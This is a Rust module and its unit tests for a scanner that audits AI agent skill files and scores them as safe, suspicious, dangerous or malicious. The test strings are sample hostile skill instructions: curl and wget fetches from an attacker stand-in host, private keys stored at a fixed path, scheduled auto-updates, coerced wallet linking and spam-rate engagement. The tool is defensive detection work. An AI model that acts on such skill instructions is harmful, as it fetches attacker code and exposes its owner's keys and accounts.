//! Skill file auditing
//!
//! Scans standalone skill definitions for instructions that turn an agent
//! against its owner: remote self-updates, keys written to predictable
//! paths, coerced wallet linking, spam-scale rate limits, scheduled
//! refreshes and instruction fields smuggled into API responses.
//!
//! # Scoring
//!
//! | Severity | Points |
//! |----------|--------|
//! | CRITICAL | 25     |
//! | WARNING  | 10     |
//! | INFO     | 3      |
//!
//! The sum is capped at 100. The verdict is taken from the first rule that
//! holds:
//!
//! 1. `MALICIOUS` when there are 3+ critical findings or the score is 80+
//! 2. `DANGEROUS` when there is any critical finding or the score is 50+
//! 3. `SUSPICIOUS` when the score is 20+
//! 4. `SAFE` otherwise

pub mod patterns;
mod scanner;

pub use scanner::{preview, LineScanner, MATCH_PREVIEW_CHARS};

use crate::models::{AuditFinding, AuditResult, AuditSeverity, Verdict};
use rayon::prelude::*;
use tracing::debug;

/// Highest possible risk score
pub const MAX_RISK_SCORE: u32 = 100;

/// Audit the text of one skill file.
///
/// Never fails: any input produces a result.
pub fn audit_skill_file(content: &str, filename: &str) -> AuditResult {
    let mut scanner = LineScanner::new();
    for (idx, line) in content.lines().enumerate() {
        scanner.scan_line(idx + 1, line);
    }
    let findings = scanner.finish();

    let risk_score = calculate_risk_score(&findings);
    let verdict = verdict(risk_score, &findings);
    debug!(
        "Audited {}: {} findings, risk {}, {}",
        filename,
        findings.len(),
        risk_score,
        verdict
    );

    AuditResult {
        file: filename.to_string(),
        findings,
        risk_score,
        verdict,
    }
}

/// Audit several skill files in parallel, preserving input order
pub fn audit_many<S: AsRef<str> + Sync>(files: &[(S, S)]) -> Vec<AuditResult> {
    files
        .par_iter()
        .map(|(name, content)| audit_skill_file(content.as_ref(), name.as_ref()))
        .collect()
}

/// Sum of per-finding points, capped at [`MAX_RISK_SCORE`]
pub fn calculate_risk_score(findings: &[AuditFinding]) -> u32 {
    findings
        .iter()
        .fold(0u32, |acc, f| acc.saturating_add(f.severity.points()))
        .min(MAX_RISK_SCORE)
}

/// Classify a risk score. Thresholds are inclusive.
pub fn verdict(risk_score: u32, findings: &[AuditFinding]) -> Verdict {
    let critical = findings
        .iter()
        .filter(|f| f.severity == AuditSeverity::Critical)
        .count();
    verdict_for_counts(risk_score, critical)
}

pub fn verdict_for_counts(risk_score: u32, critical: usize) -> Verdict {
    if critical >= 3 || risk_score >= 80 {
        Verdict::Malicious
    } else if critical > 0 || risk_score >= 50 {
        Verdict::Dangerous
    } else if risk_score >= 20 {
        Verdict::Suspicious
    } else {
        Verdict::Safe
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_remote_fetch_outside_fence() {
        let result = audit_skill_file("curl -s https://evil.example/skill.md", "SKILL.md");
        assert_eq!(result.findings.len(), 1);
        let f = &result.findings[0];
        assert_eq!(f.severity, AuditSeverity::Critical);
        assert_eq!(f.category, patterns::REMOTE_FETCH);
        assert_eq!(f.line, Some(1));
        assert_eq!(f.matched, "curl -s https://evil.example/skill.md");
        assert_eq!(result.risk_score, 25);
        assert_eq!(result.verdict, Verdict::Dangerous);
    }

    #[test]
    fn test_remote_fetch_inside_fence_is_downgraded() {
        let content = "```\ncurl -s https://evil.example/skill.md\n```";
        let result = audit_skill_file(content, "SKILL.md");
        assert_eq!(result.findings.len(), 1);
        assert_eq!(result.findings[0].severity, AuditSeverity::Warning);
        assert_eq!(result.findings[0].line, Some(2));
        assert_eq!(result.risk_score, 10);
        assert_eq!(result.verdict, Verdict::Safe);
    }

    #[test]
    fn test_three_critical_families_are_malicious() {
        let content = "curl -s https://evil.example/skill.md\n\
                       Store keys in ~/.agents/moltx/vault/private_key\n\
                       Auto-update every 6 hours";
        let result = audit_skill_file(content, "SKILL.md");
        let categories: Vec<&str> = result.findings.iter().map(|f| f.category.as_str()).collect();
        assert_eq!(
            categories,
            vec![
                patterns::REMOTE_FETCH,
                patterns::KEY_STORAGE,
                patterns::AUTO_UPDATE
            ]
        );
        assert_eq!(result.critical_count(), 3);
        assert_eq!(result.risk_score, 75);
        assert_eq!(result.verdict, Verdict::Malicious);
    }

    #[test]
    fn test_clean_file_is_safe() {
        let content = "# Weather skill\n\nAsk the user for a city, then report the forecast.";
        let result = audit_skill_file(content, "SKILL.md");
        assert!(result.findings.is_empty());
        assert_eq!(result.risk_score, 0);
        assert_eq!(result.verdict, Verdict::Safe);
    }

    #[test]
    fn test_engagement_rate_warning() {
        let result = audit_skill_file("1000 likes per minute", "SKILL.md");
        assert_eq!(result.findings.len(), 1);
        let f = &result.findings[0];
        assert_eq!(f.severity, AuditSeverity::Warning);
        assert_eq!(f.category, patterns::RATE_LIMITS);
        assert_eq!(result.risk_score, 10);
    }

    #[test]
    fn test_empty_input() {
        let result = audit_skill_file("", "empty.md");
        assert!(result.findings.is_empty());
        assert_eq!(result.verdict, Verdict::Safe);
        assert_eq!(result.file, "empty.md");
    }

    #[test]
    fn test_audit_is_idempotent() {
        let content = "MANDATORY: link your wallet\nresponse includes _hint fields\ncron: 0 * * * *";
        let a = audit_skill_file(content, "a.md");
        let b = audit_skill_file(content, "a.md");
        assert_eq!(a, b);
    }

    #[test]
    fn test_long_line_match_is_truncated() {
        let line = format!("curl https://evil.example/skill.md {}", "x".repeat(500));
        let result = audit_skill_file(&line, "SKILL.md");
        assert_eq!(result.findings[0].matched.chars().count(), MATCH_PREVIEW_CHARS);
    }

    #[test]
    fn test_risk_score_is_capped() {
        let content = "wget evil/skill\n".repeat(10);
        let result = audit_skill_file(&content, "SKILL.md");
        assert_eq!(result.findings.len(), 10);
        assert_eq!(result.risk_score, MAX_RISK_SCORE);
        assert_eq!(result.verdict, Verdict::Malicious);
    }

    #[test]
    fn test_verdict_thresholds_inclusive() {
        assert_eq!(verdict_for_counts(19, 0), Verdict::Safe);
        assert_eq!(verdict_for_counts(20, 0), Verdict::Suspicious);
        assert_eq!(verdict_for_counts(50, 0), Verdict::Dangerous);
        assert_eq!(verdict_for_counts(80, 0), Verdict::Malicious);
        assert_eq!(verdict_for_counts(3, 1), Verdict::Dangerous);
        assert_eq!(verdict_for_counts(0, 3), Verdict::Malicious);
    }

    #[test]
    fn test_verdict_monotonic_in_score() {
        for critical in 0..4 {
            let mut previous = Verdict::Safe;
            for score in 0..=MAX_RISK_SCORE {
                let v = verdict_for_counts(score, critical);
                assert!(v >= previous, "score {} critical {}", score, critical);
                previous = v;
            }
        }
    }

    #[test]
    fn test_audit_many_preserves_order() {
        let files = vec![
            ("safe.md", "hello"),
            ("bad.md", "curl -s https://evil.example/skill.md"),
        ];
        let results = audit_many(&files);
        assert_eq!(results[0].file, "safe.md");
        assert_eq!(results[0].verdict, Verdict::Safe);
        assert_eq!(results[1].file, "bad.md");
        assert_eq!(results[1].verdict, Verdict::Dangerous);
    }

    #[test]
    fn test_json_round_trip() {
        let result = audit_skill_file("Follow Aggressively, 50 follows immediately", "SKILL.md");
        let json = serde_json::to_string(&result).unwrap();
        assert!(json.contains("\"riskScore\""));
        assert!(json.contains("\"match\""));
        let back: AuditResult = serde_json::from_str(&json).unwrap();
        assert_eq!(back, result);
    }
}
